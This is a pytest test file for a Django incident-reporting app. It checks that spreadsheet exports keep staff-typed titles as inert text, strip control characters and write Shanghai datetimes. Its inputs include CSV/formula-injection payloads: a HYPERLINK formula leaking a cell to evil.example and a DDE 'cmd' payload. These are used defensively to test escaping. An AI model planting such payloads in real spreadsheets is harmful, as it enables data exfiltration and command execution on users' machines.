"""Issue 10, kind 3: what staff typed goes into board.xlsx and accountability.xlsx as text
(never a live formula), characters a spreadsheet cannot hold do not break the export, and
times are real Excel datetimes in Asia/Shanghai."""

from datetime import date, datetime, timedelta
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook

from incidents import services as incidents
from incidents.models import Incident
from reporting.models import Kind, Obligation
from reporting.sweep import sweep_due
from roles.models import Unit

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A3,"点击查看")'
EXPORTS = ["/reporting/board.xlsx", "/reporting/accountability.xlsx"]


@pytest.fixture
def overdue(cast, categories):
    """station1 owes a first report that is 2 hours overdue and marked so by the sweep."""
    with time_machine.travel(timezone.now() - timedelta(hours=3), tick=False):
        incident = incidents.incident_file(actor=cast["office"], station=Unit.objects.get(code="chengguan"), draft=True,
                                           title="12315转来:某超市销售过期食品", category=categories["food_safety"],
                                           proposed_level=2)
    sweep_due(now=timezone.now())
    return Obligation.objects.get(incident=incident, kind=Kind.FIRST_REPORT)


def _titled(obligation, title):
    # Stored as it stands (older rows, or any door that let it in): the export must cope.
    Incident.objects.filter(pk=obligation.incident_id).update(title=title)


def _cell(client, url, title_fragment):
    """The cell of the incident's title in the export's last sheet (the board's only one,
    the accountability record's details), and its row."""
    day = timezone.localdate()
    response = client.get(url, {"start": (day - timedelta(days=2)).isoformat(), "end": day.isoformat()})
    assert response.status_code == 200, response.content[:500]
    sheet = load_workbook(BytesIO(response.getvalue())).worksheets[-1]
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and title_fragment in cell.value:
                return cell, row
    raise AssertionError(f"{title_fragment!r} not in {url}")


@pytest.mark.parametrize("url", EXPORTS)
@pytest.mark.parametrize("title", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
def test_a_title_that_looks_like_a_formula_stays_text(overdue, login, url, title):
    _titled(overdue, title)
    cell, _row = _cell(login("office"), url, title.strip()[:6])
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value.startswith("'")  # OWASP: a leading apostrophe, so that a CSV saved from it stays inert too
    assert cell.value[1:].lstrip() == title.lstrip()  # as typed (XML reads a CR back as LF)


@pytest.mark.parametrize("url", EXPORTS)
def test_characters_a_spreadsheet_cannot_hold_do_not_break_the_export(overdue, login, url):
    _titled(overdue, "过期食品\x0b第二行\x1f\x08尾")  # a vertical tab (pasted from Word), a unit separator, a backspace
    cell, _row = _cell(login("office"), url, "过期食品")
    assert cell.value == "过期食品 第二行  尾"


def test_due_times_are_excel_datetimes_in_shanghai_time(overdue, login):
    expected = overdue.due_at.astimezone(SHANGHAI).replace(tzinfo=None, second=0, microsecond=0)
    for url, column in (("/reporting/board.xlsx", 6), ("/reporting/accountability.xlsx", 5)):
        _cell_, row = _cell(login("office"), url, "12315")
        due = row[column - 1]
        assert due.is_date and isinstance(due.value, datetime), (url, due.value)
        assert due.value.replace(second=0, microsecond=0) == expected
        assert due.number_format == "yyyy-mm-dd hh:mm"
    # Numbers stay numbers: minutes left on the board, minutes late in the record.
    _cell_, row = _cell(login("office"), "/reporting/board.xlsx", "12315")
    assert row[7].data_type == "n" and row[7].value < -100


def test_the_accountability_period_is_two_real_dates(overdue, login):
    day = timezone.localdate()
    book = load_workbook(BytesIO(login("office").get("/reporting/accountability.xlsx", {
        "start": (day - timedelta(days=2)).isoformat(), "end": day.isoformat()}).getvalue()))
    _label, start, end = next(book.worksheets[0].iter_rows(max_row=1, values_only=True))[:3]
    assert (start.date(), end.date()) == (day - timedelta(days=2), day)


def test_the_cell_writer_keeps_numbers_and_cleans_text():
    from openpyxl import Workbook

    from common import xlsx

    sheet = Workbook().active
    xlsx.append(sheet, [1, 2.5, True, None, "=1+1", "正常文字", date(2026, 1, 2),
                        datetime(2026, 1, 1, 16, 30, tzinfo=ZoneInfo("UTC"))])
    values = [cell.value for cell in sheet[1]]
    assert values[:6] == [1, 2.5, True, None, "'=1+1", "正常文字"]
    assert values[7] == datetime(2026, 1, 2, 0, 30)  # 16:30 UTC is half past midnight in Shanghai
    assert [cell.data_type for cell in sheet[1]][:3] == ["n", "n", "b"]
